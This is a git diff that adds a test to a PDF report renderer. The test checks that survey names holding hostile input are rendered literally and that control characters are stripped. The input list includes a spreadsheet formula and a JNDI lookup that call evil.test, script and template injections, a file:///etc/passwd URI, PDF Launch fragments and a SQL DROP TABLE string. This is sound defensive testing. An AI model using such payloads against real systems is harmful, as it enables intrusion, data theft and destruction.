@@ -14,7 +14,7 @@ import type { Operation, Page, Part } from '../../../lib/adapters/pdf/operations
 import type { Direction } from '../../../lib/adapters/pdf/text/direction.ts';
 import { lineAt } from '../../../lib/adapters/pdf/text/typesetter.ts';
 import { type } from '../../../lib/adapters/pdf/theme.ts';
-import { storeReport } from '../../support/reports.ts';
+import { reportOf, storeReport } from '../../support/reports.ts';
 import { WRITINGS } from '../../support/writings.ts';
 import { textsOf } from './read-back.ts';
 import { rendered } from './rendered.ts';
@@ -132,4 +132,44 @@ describe('a page in every writing', () => {
       }
     },
   );
+
+  it('shows hostile names letter by letter, as names and nothing else', needsTools, async () => {
+    const hostile = [
+      '../../x',
+      'a/b',
+      'CON',
+      '%2e%2e',
+      '=HYPERLINK("http://evil.test")',
+      '@SUM(1+1)*cmd',
+      '+1',
+      '-1',
+      '<script>alert(1)</script>',
+      '<b>&amp;</b>',
+      '${jndi:ldap://evil.test}',
+      '{{7*7}}',
+      'javascript:alert(1)',
+      'file:///etc/passwd',
+      'data:text/html,x',
+      ')>> /OpenAction 1 0 R',
+      '<</S/Launch>>',
+      '\\',
+      "'; DROP TABLE x; --",
+    ];
+    const report = reportOf({
+      key: 1,
+      name: 'Kiosk',
+      surveys: hostile.map((name, i) => ({ key: i + 1, name })),
+    });
+    const texts = textsOf((await rendered(report)).bytes);
+    for (const name of hostile) assert.ok(texts.includes(name), name);
+    // What is taken out of a name leaves the rest of it.
+    const [hidden] = textsOf(
+      (
+        await rendered(
+          reportOf({ key: 1, name: 'a\u0000\u001b[31m\u202eb\u200b\ud800', surveys: [] }),
+        )
+      ).bytes,
+    );
+    assert.equal(hidden, 'a[31mb\ufffd');
+  });
 });
